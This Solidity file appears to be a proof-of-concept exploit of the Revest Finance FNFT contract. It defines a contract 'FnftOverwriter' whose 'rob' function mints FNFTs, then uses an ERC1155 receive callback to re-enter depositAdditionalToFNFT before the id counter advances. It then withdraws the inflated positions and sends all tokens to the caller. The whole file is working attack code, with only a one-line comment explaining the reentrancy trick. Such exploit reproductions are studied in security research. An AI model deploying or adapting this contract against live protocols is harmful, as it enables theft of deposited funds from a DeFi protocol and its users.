// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IRevest {
    struct FNFTConfig {
        address asset;
        address pipeToContract;
        uint256 depositAmount;
        uint256 depositMul;
        uint256 split;
        uint256 depositStopTime;
        bool maturityExtension;
        bool isMulti;
        bool nontransferrable;
    }

    function mintAddressLock(
        address trigger,
        bytes calldata arguments,
        address[] calldata recipients,
        uint256[] calldata quantities,
        FNFTConfig calldata config
    ) external payable returns (uint256);
    function depositAdditionalToFNFT(uint256 id, uint256 amount, uint256 quantity) external returns (uint256);
    function withdrawFNFT(uint256 id, uint256 quantity) external;
}

interface IERC20 {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

/// Revest: while many worthless FNFTs are handed over and their id is not counted up yet, a deposit of one token makes
/// an FNFT by the same id, and so each of the many is worth one.
contract FnftOverwriter {
    uint256 private first;
    IRevest private revest;

    function rob(address revest_, address token, uint256 count) external {
        revest = IRevest(revest_);
        IERC20(token).approve(revest_, type(uint256).max);
        first = _mint(token, 2);
        uint256 second = _mint(token, count);
        revest.withdrawFNFT(second, count + 1);
        IERC20(token).transfer(msg.sender, IERC20(token).balanceOf(address(this)));
    }

    function _mint(address token, uint256 count) private returns (uint256) {
        address[] memory recipients = new address[](1);
        uint256[] memory quantities = new uint256[](1);
        (recipients[0], quantities[0]) = (address(this), count);
        IRevest.FNFTConfig memory config =
            IRevest.FNFTConfig(token, address(0), 0, 0, 0, 0, false, true, false);
        return revest.mintAddressLock(address(this), "", recipients, quantities, config);
    }

    function onERC1155Received(address, address, uint256, uint256 count, bytes calldata) external returns (bytes4) {
        if (count > 2) revest.depositAdditionalToFNFT(first, 1 ether, 1);
        return 0xf23a6e61;
    }
}
